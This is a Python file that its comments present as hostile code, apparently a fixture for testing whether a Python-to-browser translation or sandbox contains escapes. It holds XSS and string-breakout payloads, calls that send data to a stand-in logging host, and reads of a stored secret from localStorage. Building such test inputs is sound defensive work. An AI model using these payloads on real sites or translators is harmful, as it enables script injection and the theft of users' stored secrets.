# SPDX-License-Identifier: MIT
# Python code as somebody hostile would share it: it tries what Python can name, and texts that
# would break out of the translation or of the page. OTHER is the address of a server that records
# connections, SECRET_NAME the name under which the page has stored a secret.
# <img src=x onerror="escaped = 1"> */ fetch('OTHER/comment')
import keras
from keras import layers

"""*/ fetch('OTHER/docstring') <script>escaped = 1</script>"""
quotes = "'); fetch('OTHER/quotes'); ('" + '"); fetch("OTHER/double"); ("'
ticks = f"`${quotes} ` + fetch('OTHER/ticks') + `"
breaks = "\u2028fetch('OTHER/breaks')\n</script><img src=x onerror='escaped = 1'>\\"
print(len(ticks), len(breaks))


def attempt(way):
    try:
        print(way())
    except Exception as error:
        print(error)


attempt(lambda: fetch("OTHER/fetch"))
attempt(lambda: importScripts("OTHER/scripts"))
attempt(lambda: localStorage.getItem("SECRET_NAME"))
attempt(lambda: caches.open("SECRET_NAME"))
attempt(lambda: navigator.sendBeacon("OTHER/beacon", "x"))
attempt(lambda: eval("fetch('OTHER/eval')"))
attempt(lambda: parent.postMessage("x", "*"))
model = keras.Sequential([keras.Input(shape=(None, 1)), layers.LSTM(1)])
print("All ways are tried.")
